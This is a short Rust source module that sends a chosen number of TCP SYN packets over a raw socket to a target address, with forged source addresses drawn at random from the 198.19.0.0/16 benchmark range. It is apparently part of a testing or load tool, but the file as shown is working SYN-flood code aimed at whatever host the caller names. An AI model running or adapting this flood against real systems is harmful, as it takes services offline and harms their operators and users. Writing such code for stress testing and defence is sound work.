//! A flood of SYNs from forged addresses.

use std::io::ErrorKind;
use std::net::SocketAddrV4;
use std::thread;
use std::time::Duration;

use anyhow::Result;
use etherparse::PacketBuilder;
use nix::errno::Errno;
use socket2::{Domain, Protocol, Socket, Type};

/// `IPPROTO_RAW`: the data of a send starts with the IP header.
const RAW: i32 = 255;
const TTL: u8 = 64;
const WINDOW: u16 = 64_000;

/// Sends `count` SYNs, as fast as possible.
pub(crate) fn flood(to: SocketAddrV4, count: usize) -> Result<()> {
    let socket = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::from(RAW)))?;
    let mut random = fastrand::Rng::with_seed(1);
    let mut packet = Vec::new();
    for _ in 0..count {
        // 198.18.0.0/15 is reserved for benchmarks, and no host has an address in this half.
        let source = [198, 19, random.u8(..), random.u8(1..255)];
        packet.clear();
        PacketBuilder::ipv4(source, to.ip().octets(), TTL)
            .tcp(random.u16(1024..), to.port(), 1, WINDOW)
            .syn()
            .write(&mut packet, &[])?;
        match socket.send_to(&packet, &SocketAddrV4::new(*to.ip(), 0).into()) {
            Ok(_) => {}
            Err(error)
                if error.kind() == ErrorKind::WouldBlock
                    || error.raw_os_error() == Some(Errno::ENOBUFS as i32) =>
            {
                thread::sleep(Duration::from_millis(1));
            }
            Err(error) => return Err(error.into()),
        }
    }
    Ok(())
}
